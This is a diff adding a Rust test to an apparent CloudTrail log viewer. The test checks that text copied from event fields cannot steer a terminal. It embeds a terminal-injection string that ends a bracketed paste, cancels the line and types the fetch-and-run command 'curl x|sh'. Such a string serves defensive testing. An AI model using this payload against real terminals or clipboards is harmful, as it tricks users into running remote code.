@@ -296,6 +296,28 @@ fn what_is_copied_holds_no_credentials() {
 }
 
 #[test]
+fn what_is_copied_is_one_line_that_steers_nothing() {
+    let mut script = Script::new(100, 20);
+    // It ends a bracketed paste, throws the line away and types another one.
+    let hostile = r"a\u001b[201~\u0003\ncurl x|sh\n\u202e";
+    let call = r#"{"eventVersion":"1.08","eventTime":"2023-07-10T12:00:00Z","eventID":"X","eventName":"CreateUser","eventSource":"iam.amazonaws.com","requestParameters":{"userName":"X"},"userIdentity":{"type":"IAMUser","userName":"X","arn":"arn:X","accessKeyId":"X"}}"#;
+    script.arrive(&[call.replace('X', hostile)]);
+    script.keys("y i y a y t y k L y Esc p t y q");
+    let copied = script.wishes.iter().filter_map(|wish| match wish {
+        Effect::Copy(text, _) => Some(text.as_str()),
+        _ => None,
+    });
+    let copied: Vec<&str> = copied.collect();
+    assert_eq!(copied.len(), 6, "{copied:?}");
+    for text in copied {
+        assert!(
+            text.contains("curl x|sh") && !text.contains(crate::export::safe::is_unsafe),
+            "{text:?}"
+        );
+    }
+}
+
+#[test]
 fn an_evicted_row_of_a_paused_view_is_drawn_as_such() {
     let mut script = twenty();
     script.keys("Space");
